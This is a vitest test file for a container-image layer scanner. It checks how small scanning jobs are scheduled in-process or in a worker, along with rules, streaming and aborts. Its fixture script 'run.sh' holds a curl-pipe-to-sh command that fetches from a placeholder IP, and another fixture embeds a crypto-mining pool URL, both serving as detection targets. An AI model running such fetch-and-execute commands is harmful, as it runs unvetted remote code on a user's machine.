import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { elf } from '../../../testkit/elf.ts';
import { type TarItem, tar } from '../../../testkit/tar.ts';
import { DEFAULT_LIMITS } from '../../base/limits.ts';
import { DETECTORS } from '../../detect/index.ts';
import { ruleSet } from '../rules/rule-set.ts';
import { throughChannel } from './byte-channel.ts';
import type { LayerJob } from './layer-job.ts';
import { rulesJob } from './layer-rules.ts';
import { runLayerJob } from './run-layer-job.ts';
import { SmallJobs } from './small-jobs.ts';

let root = '';
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'clearpull-small-'));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

let serial = 0;
function jobOf(...items: readonly TarItem[]): LayerJob {
  const bytes = tar(items);
  const path = join(root, `layer-${serial++}`);
  writeFileSync(path, bytes);
  return {
    input: { kind: 'file', path, offset: 0, size: bytes.length },
    expected: {},
    limits: DEFAULT_LIMITS,
    detectors: DETECTORS.filter(({ inspect, texts }) => inspect ?? texts).map(({ id }) => id),
    progress: new BigInt64Array(new SharedArrayBuffer(8)),
  };
}

/** Those that went on to a worker, by what there was to be done. */
function smallJobs(): { readonly small: SmallJobs; readonly sent: string[] } {
  const sent: string[] = [];
  const small = new SmallJobs({
    run: (job) => {
      sent.push(job.input.kind);
      return runLayerJob(job);
    },
  });
  return { small, sent };
}

function* pieces(bytes: Buffer): Generator<Buffer> {
  for (let at = 0; at < bytes.length; at += 100_000) yield bytes.subarray(at, at + 100_000);
}

const RULE = `rule first {
  meta:
    id = "first" title = "A rule" why = "holds a marker" severity = "high"
    confidence = "high" grade = "proof" category = "hidden"
  strings: $a = "first-marker" condition: $a
}
`;

const START: TarItem = {
  path: 'run.sh',
  data: '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n',
  mode: 0o755,
};

describe('a small job', () => {
  it('comes to what it does in a worker, byte for byte, without one', async () => {
    const job = jobOf(START, { path: 'bin/a', data: elf({ extra: 'stratum+tcp://pool.example.com:3333' }) });
    const { small, sent } = smallJobs();
    expect(small.take(job)).toBe(true);
    const outcome = await small.run(job, undefined);
    expect(outcome).toEqual(await runLayerJob(job));
    const seen = Object.values(outcome.observations).map((bytes) => Buffer.from(bytes).toString());
    expect(seen.join()).toContain('198.51.100.7');
    expect(sent).toEqual([]);
  });

  it('has a worker look into many texts, for that cannot be interrupted', async () => {
    const many = Array.from({ length: 20 }, (_, i) => ({
      path: `opt/${i}.sh`,
      data: `#!/bin/sh\necho ${i}\n${'# a word\n'.repeat(1000)}`,
    }));
    const job = jobOf(START, ...many);
    const { small, sent } = smallJobs();
    expect(small.take(job)).toBe(true);
    expect(await small.run(job, undefined)).toEqual(await runLayerJob(job));
    expect(sent).toEqual(['parts']);
  });

  it('has a worker read what unpacks to much, and what rules are to be tried on', async () => {
    const { small, sent } = smallJobs();
    const large = jobOf({ path: 'a.gz', data: gzipSync(Buffer.alloc(32 * 1024 * 1024)) }, START);
    expect(small.take(large)).toBe(true);
    const outcome = await small.run(large, undefined);
    expect(outcome).toEqual(await runLayerJob(large));
    expect(sent).toEqual(['port']);
    const set = ruleSet([{ name: 'a.yar', text: RULE, shipped: false }], DEFAULT_LIMITS);
    const ruled: LayerJob = {
      ...jobOf({ path: 'bin/a', data: elf({ extra: 'first-marker' }) }),
      rules: rulesJob(
        set,
        set.rules.map(({ layer }) => layer),
      ),
    };
    const tried = await small.run(ruled, undefined);
    expect(tried.ruled?.results[0]?.hits).toHaveLength(1);
    expect(tried).toEqual(await runLayerJob(ruled));
    expect(sent).toEqual(['port', 'port']);
  });

  it('comes through a channel, also when more comes than was said', async () => {
    for (const [length, wanted] of [
      [1000, []],
      [3_000_000, ['port']],
    ] as const) {
      const bytes = tar([START, { path: 'data', data: Buffer.alloc(length) }]);
      const { small, sent } = smallJobs();
      const outcome = await throughChannel(Readable.from(pieces(bytes)), (port) => {
        const job: LayerJob = { ...jobOf(START), input: { kind: 'port', port }, expected: { size: 1000 } };
        expect(small.take(job)).toBe(true);
        return small.run(job, undefined);
      });
      expect(outcome.read?.compressedBytes).toBe(bytes.length);
      expect(outcome.read?.blobUnknowns.map(({ reason }) => reason)).toEqual(['size-mismatch']);
      expect(sent).toEqual(wanted);
    }
  });

  it('is not one that is large, of unknown size, or one too many', () => {
    const { small } = smallJobs();
    const third = jobOf({ path: 'data', data: Buffer.alloc(200 * 1024) });
    const { port1, port2 } = new MessageChannel();
    port1.close();
    const streamed: LayerJob = { ...third, input: { kind: 'port', port: port2 } };
    expect(small.take(jobOf({ path: 'data', data: Buffer.alloc(600 * 1024) }))).toBe(false);
    expect(small.take(streamed)).toBe(false);
    expect(small.take({ ...streamed, expected: { size: 100 } })).toBe(true);
    expect([small.take(third), small.take(third), small.take(third)]).toEqual([true, true, false]);
  });

  it('is not begun once what asked for it has been stopped', async () => {
    const { small } = smallJobs();
    const job = jobOf(START);
    await expect(small.run(job, AbortSignal.abort())).rejects.toMatchObject({ name: 'AbortError' });
    // Nor does it keep the next one from being done.
    expect(await small.run(job, undefined)).toEqual(await runLayerJob(job));
  });
});
